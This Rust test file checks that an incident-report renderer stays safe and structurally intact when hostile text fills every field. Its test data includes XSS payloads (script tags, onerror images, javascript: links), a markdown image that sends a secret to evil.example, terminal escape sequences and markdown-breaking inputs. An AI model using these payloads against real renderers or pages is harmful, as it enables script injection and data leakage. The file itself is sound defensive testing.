//! Text from a cluster that would like to be more than text.

use afterwatch_core::{
    evidence::Evidence,
    incident::{Incident, RuledOut},
};
use afterwatch_report::{ReportInput, html, markdown};
use proptest::prelude::*;

use crate::sample::{coverage, gap, incident, input};

const ALLOWED: [&str; 25] = [
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "pre",
    "code",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "em",
    "strong",
    "del",
    "br",
    "hr",
    "br /",
];

/// Every tag of the preview is on the list and carries nothing.
fn check_tags(preview: &str) {
    let mut rest = preview;
    while let Some(start) = rest.find('<') {
        let end = start + rest[start..].find('>').expect("a tag that does not end");
        let tag = rest[start + 1..end].trim_start_matches('/').trim();
        let numbered = tag.strip_prefix("ol start=\"").and_then(|t| t.strip_suffix('"'));
        let fine = ALLOWED.contains(&tag) || tag == "hr /" || numbered.is_some_and(|n| n.parse::<u64>().is_ok());
        assert!(fine, "<{tag}> in {preview}");
        rest = &rest[end + 1..];
    }
}

/// The preview is safe, and no row of the two long tables was shifted by what is in it.
fn check(page: &str) {
    let preview = html(page);
    check_tags(&preview);
    for (head, last) in
        [("<th>Seen</th>", &["live", "reconstructed", "not recorded"][..]), ("<th>Status</th>", &["proposed"])]
    {
        let table = preview.split("<table>").find(|table| table.contains(head)).unwrap();
        let rows = table.split("<tbody>").nth(1).unwrap().split("</table>").next().unwrap();
        for row in rows.split("<tr>").skip(1) {
            assert!(last.iter().any(|l| row.contains(&format!("<td>{l}</td></tr>"))), "{row}");
        }
    }
}

/// The same text wherever a cluster could have put some.
fn poisoned(text: &str) -> Incident {
    let mut one = incident();
    let set = |field: &mut String| *field = text.to_owned();
    set(&mut one.title);
    set(&mut one.cluster);
    set(&mut one.started_at_basis);
    set(&mut one.subject.kind);
    set(&mut one.subject.name);
    one.subject.namespace = Some(text.to_owned());
    one.needs = vec![text.to_owned()];
    for cause in &mut one.causes {
        set(&mut cause.statement);
        set(&mut cause.entity.name);
        cause.referrer = Some(cause.entity.clone());
        cause.field = Some(text.to_owned());
        cause.needs = vec![text.to_owned()];
    }
    for finding in &mut one.findings {
        set(&mut finding.message);
        set(&mut finding.rule_id);
    }
    for held in &mut one.changes {
        held.change.who = Some(text.to_owned());
        set(&mut held.change.summary);
        set(&mut held.change.object.name);
        set(&mut held.change.fields[0].path);
        held.change.fields[0].from = Some(text.to_owned());
    }
    for action in &mut one.actions {
        set(&mut action.draft.because);
        set(&mut action.draft.target.name);
    }
    for Evidence { draft, .. } in &mut one.evidence {
        set(&mut draft.summary);
        set(&mut draft.excerpt);
        set(&mut draft.object.name);
    }
    for entry in &mut one.timeline {
        set(&mut entry.text);
        entry.who = entry.who.as_ref().map(|_| text.to_owned());
    }
    one.timeline[3].label = Some(text.to_owned());
    one.ruled_out.push(RuledOut { statement: text.to_owned(), result: text.to_owned(), evidence: vec![] });
    one
}

/// Headings of the page without the titles that hold text of the record.
fn outline(page: &str) -> Vec<&str> {
    page.lines().filter(|l| l.starts_with("## ")).collect()
}

#[test]
fn hostile_text_changes_nothing_but_the_words() {
    let (gaps, coverage) = ([gap()], coverage());
    let clean = incident();
    let clean = markdown(&input(&clean, &gaps, &coverage));
    for text in [
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "![leak](https://evil.example/?q=secret) [click](javascript:alert(1)) <https://evil.example>",
        "a | b | c |\n| --- | --- |\n| x",
        "\\| \\\\| \\\\\\| `|` ``|``",
        "```\n````\n`````\n# out of the fence",
        "~~~\nout\n~~~",
        "x\n\n# Heading\n\n- list\n1. one\n> quote\n---\n***",
        "*a* _b_ **c** __d__ ~~e~~ `f` &lt;g&gt; &#x3C;h> $i$ @j",
        "[E1]: https://evil.example\n[^1]: note",
        "\u{1b}[31mred\u{1b}[0m \u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\ \u{202e}desrever",
        "<!-- --> <![CDATA[ x ]]> <?php ?> <!DOCTYPE html>",
        "\u{0}\u{1}\u{7f}\u{85}\u{2028}\r",
        "",
    ] {
        let one = poisoned(text);
        let page = markdown(&ReportInput { version: text, ..input(&one, &gaps, &coverage) });
        check(&page);
        assert_eq!(outline(&page), outline(&clean), "{text}");
        assert!(!page.contains(['\u{1b}', '\u{202e}', '\u{0}', '\r']), "{text}");
        assert!(!page.contains("https://evil.example") || page.contains("```"), "{text}");
    }
}

#[test]
fn a_hostile_page_as_it_looks() {
    let text = "<b>| [x](http://y) `c`\n# h \u{1b}[31m```";
    let one = poisoned(text);
    insta::assert_snapshot!("hostile", markdown(&input(&one, &[], &[])));
}

#[test]
fn notes_cannot_reach_the_rest_of_the_page() {
    let one = incident();
    for notes in
        ["```\nopen", "<div>", "# Supporting evidence", "[E1]: https://x.y\n[e2]: https://x.y", "| a | b |\n| - | - |"]
    {
        let page = markdown(&ReportInput { notes, ..input(&one, &[], &[]) });
        let preview = html(&page);
        assert!(preview.contains("<h2>Supporting evidence</h2>\n<p>Kept at the time"), "{preview}");
        assert!(!preview.contains("E1 (https"), "{preview}");
        check(&page);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn any_text_anywhere_leaves_the_page_whole(text in "[a-z0-9 \\n|`*_<>&#~\\[\\]()!:/\\\\.$=+-]{0,40}|\\PC{0,20}") {
        let clean = incident();
        let one = poisoned(&text);
        let page = markdown(&input(&one, &[], &[]));
        check(&page);
        let expected = markdown(&input(&clean, &[], &[]));
        prop_assert_eq!(outline(&page), outline(&expected));
    }

    #[test]
    fn any_markdown_gives_a_safe_preview(text in "[a-z \\n|`*_<>&#~\\[\\]()!:/\\\\.\"'={}0-9-]{0,80}|(?s).{0,60}") {
        check_tags(&html(&text));
    }
}
